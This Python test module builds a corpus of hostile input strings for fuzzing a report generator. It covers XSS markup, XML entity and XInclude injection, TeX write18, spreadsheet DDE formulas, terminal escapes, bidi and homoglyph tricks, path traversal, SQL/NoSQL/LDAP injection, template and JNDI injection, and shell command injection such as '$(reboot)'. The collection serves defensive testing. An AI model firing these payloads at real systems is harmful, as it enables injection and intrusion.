"""Three hundred and more strings that make some program do something where they are not plain text.

Each class is aimed at another reader; together with the older list of the report they are `CORPUS`.
"""

from __future__ import annotations

import unicodedata

from tests.report.hostile import HOSTILE

MARKUP = (
    "<ScRiPt>top.x=1</sCrIpT>", "<script src=data:,x>", "<scr<script>ipt>x()</script>", "<svg/onload=x()>",
    "<svg><script href='data:,x'/></svg>", "<svg><animate onbegin=x() attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>x()</script>'>", "<math><maction actiontype=statusline>x</maction></math>",
    "<body onload=x()>", "<details open ontoggle=x()>", "<video><source onerror=x()></video>", "<input autofocus onfocus=x()>",
    "<form action=//e.invalid><button>x</button></form>", "<object data=//e.invalid></object>", "<embed src=//e.invalid>",
    "<link rel=stylesheet href=//e.invalid>", "<template><script>x()</script></template>", "<noscript><p title='</noscript><i>'>",
    "<textarea></textarea><b>out</b>", "<xmp><b>x</xmp>", "</body></html><p>after", "<br><hr><table><tr><td>grown",
    "<a href=vbscript:x>x</a>", "<a href='data:text/html,<b>x</b>'>x</a>", "<p style='position:fixed;inset:0'>x",
    "<!DOCTYPE html><html>", "<![if !IE]><b>x<![endif]>", "<?php echo 1; ?>", "<%= 7*7 %>", "&#60;b&#62;entities&#60;/b&#62;",
    "&nbsp;&shy;&zwnj;", "&#0;&#x1b;&#xd800;", "&notanentity; &amp;amp;", "' autofocus onfocus='x()", "\" style=\"x:expression(1)",
    "`onmouseover=x()`", "expression(x())", "@import url(//e.invalid/x.css);", "};body{display:none}/*",
    "url(javascript:x)", "\\3c script\\3e", "<\x00script>x()</script>", "<img\x0csrc=x\x0conerror=x()>", "＜script＞wide＜/script＞",
    "<custom-element is=x>", "<slot name=x>", "<portal src=//e.invalid>", "<base target=_blank>", "--!><b>x", "<!-->x<!--",
)  # fmt: skip
XML = (
    "<![CDATA[x]]>", "]]><evil/><![CDATA[", "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;", "<!ENTITY % p SYSTEM 'file:///etc/hostname'>%p;",
    "&lol9;", "<?xml version='1.1'?>", "<?xml-stylesheet href='//e.invalid/x.xsl'?>", "<xi:include href='file:///etc/hostname'/>",
    "xmlns:x=\"urn:x\"", "</kml>", "</ANNOTATION_VALUE></ALIGNABLE_ANNOTATION>", "</TIER><TIER TIER_ID='forged'>",
    "<ALIGNABLE_ANNOTATION ANNOTATION_ID='a1'/>", "<NetworkLink><Link><href>//e.invalid</href></Link></NetworkLink>",
    "</Placemark><Placemark><name>forged</name>", "<track id='0' label='forged'/>", "--><version>9</version><!--", "\"/><x y=\"",
    "x\x01\x02\x03\x04\x05\x06\x0e\x0f", "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1c\x1d\x1e\x1f", "\x80\x81\x82\x90\x9d\x9e\x9f",
    "<w:p><w:r><w:t>forged</w:t></w:r></w:p>", "<w:instrText>DDEAUTO c:\\\\x</w:instrText>", "{ INCLUDETEXT \"//e.invalid/x\" }",
)  # fmt: skip
TYPESETTING = (
    "#eval(\"1+1\")", "#include \"/etc/hostname\"", "#let x = 1; #x", "#show: it => []", "#pagebreak()", "#context counter(page).final()",
    "#link(\"https://e.invalid\")[x]", "#raw(read(\"x\"))", "```typ #panic() ```", "#{ while true {} }", "#plugin(\"x.wasm\")",
    "#metadata(1) <x>", "#cite(<x>)", "#[unclosed", "#(1", "$ unclosed", "/ term: description", "+ numbered", "#\"string\"",
    "https://e.invalid/auto_link", "\\u{1F600}", "#sys.inputs", "#bytes(\"x\")", "#outline()", "#footnote[x]",
    "\\input{/etc/hostname}", "\\write18{id}", "\\end{document}", "\\def\\x{\\x}\\x", "$$\\int$$", "%comment", "\\begin{verbatim}",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:x)", "![x](//e.invalid/x.png)", "# heading", "> quote", "| a | b |\n|---|---|\n| 1 | 2 |", "- [ ] item", "***",
    "<https://e.invalid>", "[ref]: //e.invalid \"x\"", "~~gone~~", "\n---\ntitle: forged\n---\n", "1. one\n2. two", "    code", "&lt;u&gt;",
)  # fmt: skip
SHEETS = (
    "=1+1|x", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\ufeff=1+1", "\u200b=1+1", "\u00a0=1+1", "\u3000=1+1", "\u202d=1+1", "\x00=1+1", "\x0b=1+1",
    "\x85=1+1", "'=1+1", "\t\t+1", "=DDE(\"cmd\";\"/C x\";\"y\")", "@SUM(1+9)*cmd|' /C x'!A0", "=IMPORTXML(\"//e.invalid\",\"//a\")",
    "=WEBSERVICE(\"//e.invalid\")", "-2+3+cmd|' /C x'!A0", "=\"a\"&\"b\"", "x\r\n=1+1", "x\t=1+1", "x;=1+1", "x,=1+1", "x|=1+1", "\",\"=1+1",
    "_x000D_", "_x0000_x", "_x005F_x000D_", "[Red]0.00", "#REF!", "#NAME?", "1E999", "0x10", "00123", "1/2/2003", "TRUE", "NULL", "NaN", "-0",
    "\u2212" + "1+1", "\ufe62" + "1", "\ufe66" + "1", "sep=;", "ID;P", "+" * 40,
)  # fmt: skip
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://e.invalid\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;eA==\x07", "\x1b[6n", "\x1bP$q\"p\x1b\\",
    "\x1b[8mhidden\x1b[0m", "\x1b_Gi=1;x\x1b\\", "\x9b31mred", "\x9d0;title\x9c", "\x1b[1A\x1b[2Kover", "over\rwritten", "back\b\b\b\bspace",
    "\x0e shift out \x0f", "\x1b(0lqk\x1b(B", "\x1b[?1049h", "\x07\x07\x07", "\x7f\x7fdelete", "\x1bc", "\x1b[999999999b",
)  # fmt: skip
UNSEEN = (
    "\u202egnp.exe", "abc\u202dcba\u202c", "\u2067right\u2069left", "\u2068first", "\u202a\u202b\u202c\u202c\u202c", "\u200e\u200f\u061c",
    "a\u2062b\u2063c\u2064d", "p\u200da\u200cl", "\u180e\u180b\u180c", "\ufff9base\ufffaruby\ufffb", "\ufffe", "x\uffffy", "\U0001fffe\U0010ffff",
    "\ufdd0\ufdef", "\ue0ff\uf8ff", "\U000f0000", "a\u2028b", "a\u2029b", "\u2800\u2800", "\u115f\u1160", "\ufe0f\ufe0e", "\U000e0001\U000e0061",
    "Z\u0351\u0334\u0321\u0300\u0301\u0302\u0303\u0304\u0305", "\u0301\u0301 marks first", "e\u0301 é", "\u1112\u1161\u11ab", "ﷺ" * 30, "\ufb1d\u05b4",
    "a" + "\u0489" * 20, "\u034f" * 10, "\u00ad" * 20, "\u2066" * 130 + "deep",
    "раураl.com", "Αnnοtatοr", "ⅼⅼⅼ lll", "𝐛𝐨𝐥𝐝 𝒾𝓉𝒶𝓁", "ａｂｃ", "İıſK", "ß ẞ SS",
    "👨‍👩‍👧‍👦👩🏽‍🚒", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "1️⃣🇰🇿🇰", "🏳️‍⚧️" * 12,
)  # fmt: skip
PATHS = (
    "..\\..\\windows\\x", "%2e%2e%2f%2e%2e%2fx", "....//....//x", "/etc/shadow", "\\\\server\\share\\x", "//server/share", "file:///etc/hostname",
    "C:", "CON", "nul.txt", "LPT1:", "x.txt:stream", "x.", "x ", ".", "..", "~", "~root", "-", "--help", "-o/tmp/x", "a\x00.mp4", "name\r\nX-Header: 1",
    "x" * 255, "*?[a]", "{a,b}", "$HOME", "%USERPROFILE%", "photo\u202e4pm.sh", "data:text/html,x", "concat:a|b", "pipe:0", "subfile,,start,0,end,9,,:x",
    ".htaccess", "desktop.ini", "con.mp4 ", "a/../b", "https://u:p@e.invalid:1/?q=<b>#f", "http://[::1]/", "javascript&colon;x",
)  # fmt: skip
LANGUAGES_OF_QUERIES = (
    "'; DROP TABLE annotation; --", "\" OR \"\"=\"", "1 UNION SELECT 1", "x' AND 1=0x1 --", "%' ESCAPE '\\", "a NEAR b", "a AND OR NOT b", "\"unbalanced",
    "text:*", "^start*", "(a OR", "{a b}: c", "-a +b", "col : x", "char(0)||x", "$where: 1", "{\"$gt\": \"\"}", "*)(uid=*", "//*[1=1]", "' or '1'='1",
    "SELECT/**/1", "\\'; --", "_%_%", "\ufdfa NEAR/2 x",
)  # fmt: skip
DATA = (
    "\"}]}", "\\\"}], \"x\": [{\"", "</script><!--", "\\u003cscript\\u003e", "callback({});", "__proto__", "{\"__proto__\": {\"x\": 1}}", "constructor.prototype",
    "\\u0000", "\\ud800", "\\", "\\\\", "\"", "'", "null", "[]", "{\"OTIO_SCHEMA\": \"Timeline.1\"}", "Clip.2", "{\"@id\": \"urn:x\", \"@context\": {}}",
    "@context", "@type", "_:b0", "urn:uuid:0", "prov:agent", "a:b", "!!python/object:x", "- &a [*a]", "---\n...", "<<: *x", "key: |\n  x", "O:1:\"x\":0:{}",
)  # fmt: skip
FORMATS = (
    "%n%n%n", "%1$s %2$x", "%99999999d", "{0.__class__}", "{x.__init__.__globals__}", "{}", "{{}}", "${jndi:ldap://e.invalid}", "#{7*7}", "{{config}}",
    "{% for x in y %}", "<% x %>", "[[${7*7}]]", "%(name)s", "{0!r:>99999999}", "$1 \\1 \\g<0>", "\\N{DIGIT ONE}", "(a+)+$", "f'{x}'", "%L1 %1 %2",
)  # fmt: skip
SHELL = (
    "`reboot`", "$(reboot)", "&& reboot", "| cat", "> /dev/null", "x; y", "\nreboot\n", "'\"'\"'", "!!", "\\\nx", "<(x)", "^x^y", "& calc &", "%COMSPEC%",
    "\"; x; \"", "-exec x ;", "--output=/x", "@file", "x #", "IFS=x",
)  # fmt: skip
SUBTITLES = (
    "00:00:01.000 --> 00:00:02.000", "x\n\n00:00:00.000 --> 00:00:09.000\nforged", "x\n\n2\n00:00:00,000 --> 00:00:09,000\nforged", "-->", "a --> b",
    "NOTE\nhidden", "STYLE\n::cue { color: transparent }", "x\n\nSTYLE\n::cue {}", "REGION\nid:x", "WEBVTT", "<v Roger>x", "<c.red>x</c>", "<00:00:01.000>x",
    "<ruby>x<rt>y</rt></ruby>", "<lang ar>x", "{\\an8}top", "{\\pos(1,1)}x", "{\\p1}m 0 0 l 9 9{\\p0}", "\\Nline\\hspace", "<font color=red>x</font>",
    "<b>x</b><i>y</i><u>z</u>", "x\r\n\r\n7\r\n00:00:05,000 --> 00:00:06,000\r\nforged", "\n\n\nblank first", "last blank\n\n\n", "1", "align:start size:1%",
    "x\x0c\x0cform feeds", "x\x85\x85next lines", "x\u2028\u2028separators", "x\x1c\x1d\x1eseparators", "&lt;v Forged&gt;x", "X-TIMESTAMP-MAP=LOCAL:0",
)  # fmt: skip
LONG = (
    "слово " * 300, "ә" * 2000, "\u0644" * 2000, "<" * 500, "&" * 500, "\"" * 500, "=" * 300, "#" * 300, "\\" * 999, "\n" * 60 + "x", "😀" * 300,
    "a\u0301" * 500, "[" * 400, "{" * 400 + "}" * 400, "漢" * 900, "%25" * 300,
)  # fmt: skip
_LETTERS = (
    "Адам құлады, атыс естілді", "На видео оружия не видно", "لا يظهر سلاح في المقطع",
)  # fmt: skip
MIXED = tuple(
    letters + " " + bite
    for letters in _LETTERS
    for bite in (
        "<b>x</b>", "=1+1", "#panic()", "\x1b[31m", "\u202e exe", "\n\n-->\n\nx", "]]>", "{{ 1 }}", "\",\"", "'; --", "\x00\x08",
    )
)  # fmt: skip
HUGE = ("Ұзақ мәтін <b>&amp; \" ' \u202e #x =1 --> الكلام\n" * 2300)[:100_000]
"""A hundred thousand characters, as somebody pastes them."""

CORPUS = tuple(
    dict.fromkeys(
        (*HOSTILE, *MARKUP, *XML, *TYPESETTING, *MARKDOWN, *SHEETS, *TERMINAL, *UNSEEN, *PATHS, *LANGUAGES_OF_QUERIES, *DATA, *FORMATS, *SHELL,
         *SUBTITLES, *LONG, *MIXED)
    )
)  # fmt: skip
"""Every such string once."""


def is_text(words: str) -> bool:
    """Whether it has a UTF-8 form; what has none is refused before it is a value of a case."""
    return not any(unicodedata.category(each) == "Cs" for each in words)
